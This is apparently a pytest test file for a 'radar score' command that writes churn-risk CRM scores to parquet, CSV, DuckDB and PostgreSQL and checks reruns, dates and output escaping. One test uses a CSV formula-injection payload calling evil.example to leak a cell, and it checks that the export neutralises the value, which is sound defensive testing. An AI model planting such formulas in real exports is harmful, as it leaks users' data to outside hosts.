"""`radar score`: batch CRM enrichment of the workspace, through the CLI, into real targets."""

from __future__ import annotations

import shutil

import duckdb
import pandas as pd
import pytest
import sqlalchemy
from typer.testing import CliRunner

from radar.cli import app
from serving.crm.files import history_path
from serving.crm.table import ACCOUNTS, NAMES
from serving.scoring.batch import load_snapshots
from serving.scoring.champions import load_champions
from serving.scoring.score import score_frame


@pytest.fixture
def project(served_project, tmp_path):
    """The served project's config and models, with a private copy of its workspace."""
    root, settings = served_project
    shutil.copytree(root / "out", tmp_path / "out")
    env = {"RADAR_CONFIG_FILE": None, "RADAR_OUTPUT_DIR": str(tmp_path / "out"), "COLUMNS": "200"}
    return root / "radar.toml", env, settings.model_copy(update={"output_dir": tmp_path / "out"}), tmp_path


def _score(project, *args):
    config, env, _, _ = project
    return CliRunner().invoke(app, ["--config", str(config), "score", *args], env=env)


def test_score_writes_the_crm_table_and_a_rerun_changes_nothing(project):
    _, _, settings, tmp = project
    target = tmp / "crm" / "scores.parquet"
    target.parent.mkdir()
    first = _score(project, "--to", str(target))
    assert first.exit_code == 0, first.output
    frame, as_of = load_snapshots(settings)
    assert f"scored {len(frame):,} accounts at {as_of}" in first.output
    assert f"{len(frame):,} inserted, 0 updated, 0 unchanged; crm_accounts: {len(frame):,} changed" in first.output
    assert "Call list: red and yellow accounts by expected MRR lost" in first.output
    assert "Top expansion opportunities" in first.output
    accounts = pd.read_parquet(target)
    assert list(accounts.columns) == ACCOUNTS.names and accounts.account_id.is_unique and len(accounts) == len(frame)
    table = pd.read_parquet(history_path(target))
    assert list(table.columns) == NAMES and len(table) == len(frame)
    assert table[["account_id", "as_of"]].duplicated().sum() == 0
    # the CRM rows are the scoring function's, for the same accounts
    expected = score_frame(frame, load_champions(settings), settings).set_index("account_id")
    got = table.set_index("account_id").loc[expected.index]
    assert (got["churn_risk"] - expected["churn_risk"]).abs().max() < 1e-12
    assert (got["call_rank"].sort_values().to_numpy() == range(1, len(got) + 1)).all()
    assert (got["risk_tier"] == expected["risk_tier"]).all()
    assert got["top_reasons"].str.len().gt(0).all()

    second = _score(project, "--to", str(target))
    assert second.exit_code == 0, second.output
    assert f"0 inserted, 0 updated, {len(frame):,} unchanged; crm_accounts: 0 changed" in second.output
    pd.testing.assert_frame_equal(pd.read_parquet(history_path(target)), table)  # not even scored_at moved
    pd.testing.assert_frame_equal(pd.read_parquet(target), accounts)


def test_score_into_the_duckdb_workspace_and_postgresql(project, postgres_database):
    _, _, settings, _ = project
    result = _score(project, "--to", "workspace", "--top", "0")
    assert result.exit_code == 0, result.output
    with duckdb.connect(str(settings.database_path), read_only=True) as con:
        n, keys = con.execute("SELECT count(*), count(DISTINCT (account_id, as_of)) FROM crm_score_history").fetchone()
        accounts = con.execute("SELECT count(*) FROM crm_accounts WHERE status = 'active'").fetchone()[0]
    frame, _ = load_snapshots(settings)
    assert n == keys == accounts == len(frame)

    url = postgres_database("crm_from_cli")
    result = _score(project, "--to", url, "--top", "0")
    assert result.exit_code == 0, result.output
    assert "inserted" in result.output
    engine = sqlalchemy.create_engine(url)
    with engine.connect() as con:
        assert con.execute(sqlalchemy.text("SELECT count(*) FROM crm_score_history")).scalar() == len(frame)
        assert con.execute(sqlalchemy.text("SELECT count(*) FROM crm_accounts")).scalar() == len(frame)
    rerun = _score(project, "--to", url, "--top", "0")
    assert rerun.exit_code == 0 and f"0 inserted, 0 updated, {len(frame):,} unchanged" in rerun.output
    engine.dispose()


def test_score_at_an_earlier_date_and_bad_dates(project):
    _, _, settings, tmp = project
    frame, latest = load_snapshots(settings)
    with duckdb.connect(str(settings.database_path), read_only=True) as con:
        earlier = con.execute("SELECT max(as_of) FROM snapshots WHERE as_of < ?", [latest]).fetchone()[0]
    target = tmp / "earlier.csv"
    result = _score(project, "--to", str(target), "--as-of", str(pd.Timestamp(earlier).date()), "--top", "0")
    assert result.exit_code == 0, result.output
    assert set(pd.read_csv(target)["as_of"]) == {str(pd.Timestamp(earlier).date())}
    assert set(pd.read_csv(history_path(target))["as_of"]) == {str(pd.Timestamp(earlier).date())}

    bad = _score(project, "--to", str(target), "--as-of", "yesterday")
    assert bad.exit_code == 2 and "not a date" in bad.output
    missing = _score(project, "--to", str(target), "--as-of", "1999-01-31")
    assert missing.exit_code == 1 and "no snapshots at as_of 1999-01-31" in missing.output


def test_ids_and_names_with_markup_are_printed_literally_after_the_write(project):
    """An id like `[/bold]A00424` or a name like `[red]x[/red]` is data, never Rich markup:
    `radar score` prints it as it is and exits 0 after its write."""
    _, _, settings, tmp = project
    frame, _ = load_snapshots(settings)
    from serving.scoring.batch import at_risk

    account = str(at_risk(score_frame(frame, load_champions(settings), settings), limit=1).iloc[0]["account_id"])
    with duckdb.connect(str(settings.database_path)) as con:
        con.execute(
            "UPDATE snapshots SET account_id = '[/bold]A00424', name = '[red]x[/red]' WHERE account_id = ?", [account]
        )
    target = tmp / "scores.parquet"
    result = _score(project, "--to", str(target), "--top", "3")
    assert result.exit_code == 0, result.output
    assert "[/bold]A00424" in result.output and "[red]x[/red]" in result.output
    assert "[/bold]A00424" in set(pd.read_parquet(target)["account_id"])


def test_a_formula_in_an_account_id_reaches_the_csv_neutralised(project):
    """An account id a spreadsheet would run as a formula is written with a leading quote,
    in the accounts file and its history; the crm_id comes from the accounts table."""
    _, _, settings, tmp = project
    evil = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    with duckdb.connect(str(settings.database_path)) as con:
        account = con.execute("SELECT min(account_id) FROM snapshots").fetchone()[0]
        con.execute("UPDATE snapshots SET account_id = ? WHERE account_id = ?", [evil, account])
        con.execute("CREATE TABLE IF NOT EXISTS accounts (account_id VARCHAR)")  # the served project has none
        con.execute("ALTER TABLE accounts ADD COLUMN IF NOT EXISTS crm_id VARCHAR")
        con.execute("DELETE FROM accounts WHERE account_id IN (?, ?)", [evil, account])
        con.execute("INSERT INTO accounts (account_id, crm_id) VALUES (?, '0015g00000XyZ01')", [evil])
    target = tmp / "out.csv"
    result = _score(project, "--to", str(target), "--top", "0")
    assert result.exit_code == 0, result.output
    for where in (target, history_path(target)):
        raw = pd.read_csv(where, dtype=str, keep_default_na=False)
        assert "'" + evil in set(raw.account_id) and evil not in set(raw.account_id)
        assert not raw.map(lambda v: v[:1] in ("=", "+", "@", "\t", "\r")).any().any()
        assert raw.loc[raw.account_id == "'" + evil, "crm_id"].tolist()[-1] == "0015g00000XyZ01"
    rerun = _score(project, "--to", str(target), "--top", "0")
    assert "crm_accounts: 0 changed" in rerun.output  # read back as written


def test_a_failure_to_print_after_the_write_is_a_warning(project, monkeypatch):
    """The CRM table is written: a ranking that cannot be printed warns and exits 0."""
    import serving.cli

    _, _, settings, tmp = project

    def broken(*args, **kwargs):
        raise RuntimeError("the terminal went away")

    monkeypatch.setattr(serving.cli, "_print_ranking", broken)
    target = tmp / "scores.parquet"
    result = _score(project, "--to", str(target))
    assert result.exit_code == 0, result.output
    assert "warning" in result.output and "the terminal went away" in result.output
    assert len(pd.read_parquet(target)) == len(load_snapshots(settings)[0])


def test_an_error_naming_user_data_is_printed_literally(project):
    _, _, _, tmp = project
    result = _score(project, "--to", str(tmp / "[/bold]scores[red].xlsx"))
    assert result.exit_code == 1 and isinstance(result.exception, SystemExit), result.output
    assert "unknown CRM target" in result.output and "[/bold]scores[red].xlsx" in result.output
